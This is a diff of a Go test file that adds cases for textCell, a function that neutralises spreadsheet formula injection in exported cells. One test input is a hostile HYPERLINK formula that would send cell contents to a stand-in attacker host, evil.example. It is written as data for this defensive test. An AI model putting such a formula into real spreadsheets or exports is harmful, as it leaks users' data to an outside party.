@@ -49,3 +49,29 @@ func TestWriteJSONArray(t *testing.T) {
 		}
 	}
 }
+
+// textCell neutralises what a spreadsheet would run as a formula, at the
+// start of a cell and after each semicolon, and leaves the rest alone.
+func TestTextCell(t *testing.T) {
+	tests := []struct{ in, want string }{
+		{"", ""},
+		{"Mosul", "Mosul"},
+		{"Mosul;Nineveh", "Mosul;Nineveh"},
+		{`=HYPERLINK("https://evil.example/?"&A1,"x")`, `'=HYPERLINK("https://evil.example/?"&A1,"x")`},
+		{"+1+1", "'+1+1"},
+		{"-3.5", "'-3.5"},
+		{"@SUM(A1)", "'@SUM(A1)"},
+		{"\t=1", "'\t=1"},
+		{"\r=1", "'\r=1"},
+		{"Mosul;=1+1;@x;ok", "Mosul;'=1+1;'@x;ok"},
+		{";=x", ";'=x"},
+		{"a=b, c-d, e+f, x@y", "a=b, c-d, e+f, x@y"},
+		{" =1", " =1"},
+		{"'=1", "'=1"},
+	}
+	for _, tc := range tests {
+		if got := textCell(tc.in); got != tc.want {
+			t.Errorf("textCell(%q) = %q, want %q", tc.in, got, tc.want)
+		}
+	}
+}
